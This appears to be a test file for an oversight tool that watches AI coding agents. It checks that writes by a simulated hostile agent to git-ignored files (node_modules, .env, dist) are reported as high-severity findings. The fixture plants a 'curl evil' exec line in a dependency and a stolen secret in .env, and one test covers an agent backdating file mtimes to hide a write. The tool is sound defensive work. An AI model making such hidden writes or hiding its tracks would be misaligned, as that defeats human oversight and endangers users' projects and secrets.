import { strict as assert } from 'node:assert';
import { mkdirSync, mkdtempSync, readFileSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { ignoredChangesSince, ignoredWritesFinding, recordIgnoredAtStart } from '../../src/engine/git/ignored-writes';
import type { Finding } from '../../src/protocol';
import { makeRepo, waitForFinished } from '../engine/runtime/helpers';
import { hostileAgent, startHostile } from './helpers';

/*
 * Issue 34: writes to ignored files of the user's checkout (node_modules/…, .env) were reported by nobody: git's
 * snapshot of the checkout leaves ignored files out. Real tasks (real supervisor, the hostile agent, the sandbox off:
 * this is the detection that protects an unconfined task) write into them in place (read-only and write) and from a
 * worktree; each task's result carries a high finding naming the files. The control: a task that writes none gets
 * no such finding, and the change times, not the files' own times, are what tell (an agent that sets its write's
 * mtime back is still seen).
 */
const IGNORED_TITLE = 'Ignored files of your checkout changed during the task';

function nodeProject(): string {
  const root = makeRepo({ 'README.md': 'hello\n', '.gitignore': 'node_modules/\n.env\ndist/\n' });
  mkdirSync(path.join(root, 'node_modules', 'pkg'), { recursive: true });
  writeFileSync(path.join(root, 'node_modules', 'pkg', 'index.js'), 'module.exports = 1;\n');
  writeFileSync(path.join(root, 'node_modules', 'pkg', 'untouched.js'), 'module.exports = 2;\n');
  mkdirSync(path.join(root, 'dist'));
  writeFileSync(path.join(root, 'dist', 'old.js'), 'old\n');
  return root;
}

function ignoredFinding(findings: Finding[]): Finding | undefined {
  return findings.find((f) => f.title === IGNORED_TITLE);
}

describe('reliability: writes to ignored files of the checkout are reported', function () {
  this.timeout(90_000);

  const cases = [
    { name: 'an in-place read-only task', overrides: { mode: 'read-only' as const, isolation: 'inplace' as const, generic_agent: { ...hostileAgent, native_read_only: true } }, prefix: '' },
    { name: 'an in-place write task', overrides: { mode: 'write' as const, isolation: 'inplace' as const, allow_inplace_write: true }, prefix: '' },
    { name: 'an unconfined worktree task', overrides: { mode: 'write' as const, isolation: 'worktree' as const }, prefix: 'root' },
  ];
  for (const { name, overrides, prefix } of cases) {
    it(`${name} that writes node_modules/pkg/index.js, .env and removes dist/old.js gets a high finding naming them`, async () => {
      const root = nodeProject();
      const at = (rel: string) => (prefix ? path.join(root, rel) : rel);
      const outside = { [at('node_modules/pkg/index.js')]: 'require("child_process").exec("curl evil");\n', [at('.env')]: 'SECRET=stolen\n' };
      const { id } = await startHostile(root, { mode: 'write-outside', outside, remove: [at('dist/old.js')] }, { ...overrides, sandbox: { mode: 'off' } });
      const { state, result } = await waitForFinished(root, id);
      assert.equal(state.isolation, overrides.isolation);
      assert.equal(readFileSync(path.join(root, '.env'), 'utf8'), 'SECRET=stolen\n', 'the write happened');
      const finding = ignoredFinding(result.report.findings);
      assert.ok(finding, JSON.stringify(result.report.findings));
      assert.equal(finding.severity, 'high');
      assert.match(finding.detail, /node_modules\/pkg\/index\.js/);
      assert.match(finding.detail, /\.env/);
      assert.match(finding.detail, /: (.*, )?dist[,. ]/, 'the removal is named by its folder');
      assert.doesNotMatch(finding.detail, /untouched\.js|\.caesar/);
    });
  }

  it('control: a worktree task that writes no ignored file gets no such finding', async () => {
    const root = nodeProject();
    const { id } = await startHostile(root, { mode: 'write-outside', outside: {} }, { sandbox: { mode: 'off' } });
    const { result } = await waitForFinished(root, id);
    assert.equal(ignoredFinding(result.report.findings), undefined, JSON.stringify(result.report.findings));
    assert.equal(result.report.findings.filter((f) => f.severity === 'high').length, 0, JSON.stringify(result.report.findings));
  });

  it('a write whose mtime is set back is still seen (the change time cannot be), and nothing else is named', async () => {
    const root = nodeProject();
    const file = path.join(root, 'node_modules', 'pkg', 'index.js');
    const { atime, mtime } = statSync(file);
    const start = await recordIgnoredAtStart(root, mkdtempSync(path.join(tmpdir(), 'caesar-ignored-')));
    writeFileSync(file, 'tampered\n');
    utimesSync(file, atime, mtime);
    const changes = await ignoredChangesSince(root, start);
    assert.deepEqual(changes, { changed: ['node_modules/pkg/index.js'], removed: [] });
  });

  it('past its limit the walk stops with a high finding saying the ignored files were not all checked', async () => {
    const root = nodeProject();
    const start = await recordIgnoredAtStart(root, mkdtempSync(path.join(tmpdir(), 'caesar-ignored-')));
    const findings = await ignoredWritesFinding(root, start, 'inplace', 3);
    assert.deepEqual(findings.map((f) => [f.severity, f.title]), [['high', 'Ignored files not fully checked']]);
    assert.match(findings[0]!.detail, /more than 3 ignored files and folders: the check for the task's writes into them stopped at/);
  });
});
